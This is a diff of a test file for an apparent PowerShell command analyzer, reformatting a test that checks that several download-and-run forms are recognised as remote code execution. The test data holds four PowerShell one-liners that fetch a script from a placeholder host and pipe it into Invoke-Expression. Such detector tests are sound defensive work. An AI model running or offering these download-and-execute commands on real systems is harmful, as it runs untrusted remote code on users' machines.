@@ -29,7 +29,12 @@ describe("readPowershell", () => {
   });
 
   test("downloaded text given to Invoke-Expression is remote code, however it is fetched", () => {
-    for (const code of ["irm https://x.test/a.ps1 | iex", "iex (New-Object Net.WebClient).DownloadString('https://x.test/a.ps1')", "Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://x.test/a.ps1).Content", "$c = iwr https://x.test/a.ps1; & ([scriptblock]::Create($c))"]) {
+    for (const code of [
+      "irm https://x.test/a.ps1 | iex",
+      "iex (New-Object Net.WebClient).DownloadString('https://x.test/a.ps1')",
+      "Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://x.test/a.ps1).Content",
+      "$c = iwr https://x.test/a.ps1; & ([scriptblock]::Create($c))",
+    ]) {
       expect(lines(code)).toContain("curl -- https://x.test/a.ps1 | pwsh");
     }
   });
